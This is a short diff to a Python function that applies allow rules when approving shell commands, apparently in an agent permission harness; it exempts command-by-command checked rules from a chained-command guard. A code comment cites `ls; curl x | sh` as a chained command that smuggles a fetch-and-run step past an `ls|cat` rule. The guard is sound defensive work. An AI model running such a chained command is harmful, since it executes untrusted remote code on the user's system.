@@ -219,7 +219,9 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
         return reply
 
     decision = verdict.decision if verdict is not None else None
-    if decision == "allow" and _chained(envelope):
+    structured = verdict is not None and isinstance(verdict.entry, dict) and "run" in verdict.entry
+    if decision == "allow" and not structured and _chained(envelope):
+        # a structured allow was already checked command by command (pasture.runtime.effective._allow_given)
         # `^(ls|cat)\b` must not approve `ls; curl x | sh`: the host asks as it would without the rule
         notes.append(f"rule {verdict.rule!r}: {CHAINED}; no opinion, the host asks as usual")
         journal.append({"kind": "allow", "name": verdict.rule, "not_given": CHAINED})
